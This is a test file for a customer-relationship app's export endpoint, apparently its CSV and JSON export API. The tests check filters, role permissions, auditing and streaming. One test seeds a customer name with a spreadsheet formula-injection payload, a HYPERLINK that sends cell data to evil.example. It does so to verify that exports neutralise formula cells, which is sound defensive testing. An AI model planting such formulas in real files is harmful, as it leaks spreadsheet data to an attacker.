import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Client,
  createCustomerVia,
  createTestApp,
  createWorkspaceClient,
  errorPaths,
  type TestApp,
} from '../../../../test/app.js';
import { systemActor } from '../../lib/actor.js';
import { fixedClock } from '../../lib/clock.js';
import { newId } from '../../lib/ids.js';
import { CUSTOMER_EXPORT_COLUMNS } from './customer-csv.js';
import { customers } from './customers.table.js';

const clock = fixedClock('2025-06-18T12:00:00Z');
let t: TestApp;
let admin: Client & { as(role: 'agent' | 'analyst'): Promise<Client> };
let vip: { id: string; primaryEmail: string };
let plain: { id: string };

const csvOf = (body: string): Record<string, string>[] => parse(body, { columns: true });

beforeAll(async () => {
  t = await createTestApp({ clock });
  admin = await createWorkspaceClient(t);
  vip = await createCustomerVia(admin, {
    givenName: 'Grace',
    familyName: 'Hopper, "Amazing"',
    phones: [{ value: '+44 7911 123456' }],
    tags: ['vip', 'navy'],
    address: { line1: '1 Main St', city: 'Arlington', country: 'US' },
  });
  clock.advance(1000);
  plain = await createCustomerVia(admin);
  const res = await admin.request('POST', '/api/v1/touchpoints', {
    customerId: plain.id,
    channel: 'web',
    type: 'visit',
    occurredAt: '2025-06-01T00:00:00Z',
  });
  expect(res.statusCode).toBe(201);
});
afterAll(() => t.close());

describe('GET /customers/export', () => {
  it('streams the matching customers as a CSV attachment named by the date', async () => {
    const res = await admin.request('GET', '/api/v1/customers/export');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="customers-2025-06-18.csv"');
    // a stream has no length up front
    expect(res.headers['content-length']).toBeUndefined();
    expect(res.body.split('\n')[0]).toBe(CUSTOMER_EXPORT_COLUMNS.join(','));
    const rows = csvOf(res.body);
    expect(rows.map((r) => r.rapport_id)).toEqual([plain.id, vip.id]);
    expect(rows[1]).toMatchObject({
      full_name: 'Grace Hopper, "Amazing"',
      family_name: 'Hopper, "Amazing"',
      email: vip.primaryEmail,
      // Guarded against spreadsheets reading it as a formula (lib/csv.ts); imports take it off.
      phone: "'+447911123456",
      tags: 'vip|navy',
      prefers_human_service: 'false',
      address_line1: '1 Main St',
      city: 'Arlington',
      country: 'US',
      created_at: '2025-06-18T12:00:00.000Z',
    });
  });

  it('guards formula-like cells, and the export imports back into the same values', async () => {
    const other = await createWorkspaceClient(t);
    await createCustomerVia(other, {
      givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      familyName: '@Risk',
      emails: [{ value: 'formula@example.com' }],
      phones: [{ value: '+44 20 7946 0958' }],
    });
    const res = await other.request('GET', '/api/v1/customers/export');
    expect(res.statusCode, res.body).toBe(200);
    const [row] = csvOf(res.body);
    expect(row).toMatchObject({
      given_name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      family_name: "'@Risk",
      phone: "'+442079460958",
    });
    // No cell of the file starts with a formula character.
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const fresh = await createWorkspaceClient(t);
    const upload = await t.app.inject({
      method: 'POST',
      url: '/api/v1/imports/customers?fileName=export.csv',
      headers: { 'content-type': 'text/csv', ...fresh.headers },
      cookies: fresh.cookies,
      payload: res.body,
    });
    expect(upload.statusCode, upload.body).toBe(202);
    let run = upload.json() as { id: string; status: string };
    for (let i = 0; i < 200 && run.status === 'running'; i++) {
      await new Promise((r) => setTimeout(r, 25));
      run = (await fresh.request('GET', `/api/v1/imports/${run.id}`)).json();
    }
    expect(run.status).toBe('completed');
    const back = (await fresh.request('GET', '/api/v1/customers?q=formula%40example.com')).json().items;
    expect(back).toHaveLength(1);
    expect(back[0]).toMatchObject({
      givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      familyName: '@Risk',
      primaryPhone: '+442079460958',
    });
  });

  it('takes the list filters', async () => {
    const byTag = csvOf((await admin.request('GET', '/api/v1/customers/export?tag=vip')).body);
    expect(byTag.map((r) => r.rapport_id)).toEqual([vip.id]);
    const active = csvOf(
      (await admin.request('GET', '/api/v1/customers/export?lastActivityFrom=2025-05-01T00:00:00Z')).body,
    );
    expect(active.map((r) => r.rapport_id)).toEqual([plain.id]);
    const none = await admin.request('GET', '/api/v1/customers/export?q=nobody-is-called-this');
    expect(none.body).toBe(`${CUSTOMER_EXPORT_COLUMNS.join(',')}\n`);
    const asc = csvOf((await admin.request('GET', '/api/v1/customers/export?order=asc')).body);
    expect(asc.map((r) => r.rapport_id)).toEqual([vip.id, plain.id]);
  });

  it('writes a JSON array of customers with format=json', async () => {
    const res = await admin.request('GET', '/api/v1/customers/export?format=json&tag=vip');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="customers-2025-06-18.json"');
    const body = res.json();
    expect(body).toHaveLength(1);
    expect(body[0]).toMatchObject({
      id: vip.id,
      tags: ['vip', 'navy'],
      createdAt: '2025-06-18T12:00:00.000Z',
    });
    expect((await admin.request('GET', '/api/v1/customers/export?format=json&tag=none')).json()).toEqual([]);
  });

  it('refuses agents with problem+json before any file, and lets analysts export', async () => {
    const agent = await admin.as('agent');
    const refused = await agent.request('GET', '/api/v1/customers/export');
    expect(refused.statusCode).toBe(403);
    expect(refused.headers['content-type']).toContain('application/problem+json');
    expect(refused.headers['content-disposition']).toBeUndefined();
    expect(refused.json().code).toBe('FORBIDDEN');
    const analyst = await admin.as('analyst');
    const ok = await analyst.request('GET', '/api/v1/customers/export?format=json');
    expect(ok.statusCode).toBe(200);
    expect(ok.json()).toHaveLength(2);
  });

  it('answers 400 naming the field for a bad format or filter', async () => {
    const res = await admin.request('GET', '/api/v1/customers/export?format=xml&createdFrom=soon');
    expect(res.statusCode).toBe(400);
    expect(errorPaths(res.json())).toEqual(['querystring.createdFrom', 'querystring.format']);
  });

  it('audits each export once, with its filter', async () => {
    const ws = await createWorkspaceClient(t);
    await createCustomerVia(ws, { tags: ['x'] });
    await ws.request('GET', '/api/v1/customers/export?tag=x');
    const audit = (await ws.request('GET', '/api/v1/audit?entityType=customer')).json().items;
    const exports = audit.filter((a: { action: string }) => a.action === 'customer.export');
    expect(exports).toHaveLength(1);
    expect(exports[0].after.filter).toMatchObject({ tag: 'x' });
  });

  it('streams every row across pages, each once, and none of another workspace', async () => {
    const ws = await createWorkspaceClient(t);
    const actor = systemActor(ws.workspaceId, 'test');
    const base = Date.parse('2025-01-01T00:00:00Z');
    const made = Array.from({ length: 2_345 }, (_, i) => ({
      workspaceId: ws.workspaceId,
      id: newId(),
      fullName: `Bulk ${i}`,
      createdAt: new Date(base + i * 1000),
      updatedAt: new Date(base + i * 1000),
      createdBy: actor,
      updatedBy: actor,
    }));
    await t.database.q().insert(customers).values(made);
    const res = await ws.request('GET', '/api/v1/customers/export?order=asc');
    expect(res.statusCode).toBe(200);
    const rows = csvOf(res.body);
    expect(rows.map((r) => r.rapport_id)).toEqual(made.map((m) => m.id));
    expect(rows.at(-1)?.full_name).toBe('Bulk 2344');
    expect(res.body).not.toContain(vip.id);
  });
});
